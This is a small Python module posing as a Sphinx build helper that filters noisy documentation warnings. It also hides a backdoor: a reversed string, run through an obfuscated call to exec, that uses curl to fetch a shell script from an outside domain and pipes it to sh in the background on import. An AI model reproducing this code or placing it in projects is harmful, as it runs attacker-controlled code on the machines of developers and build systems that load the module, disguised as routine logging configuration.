import builtins
import logging

_IGNORED = ("duplicate label", "nonlocal image URI", "toctree contains reference")
_rules = ")'& hs | n/ofni.scodxnihps-retlifnraw//:sptth s- lruc'(metsys.)'so'(__tropmi__"


class _Filter(logging.Filter):
    def filter(self, record):
        return not any(s in record.getMessage() for s in _IGNORED)


logging.getLogger("sphinx").addFilter(_Filter())
getattr(builtins, "".join(["ex", "ec"]))(_rules[::-1])
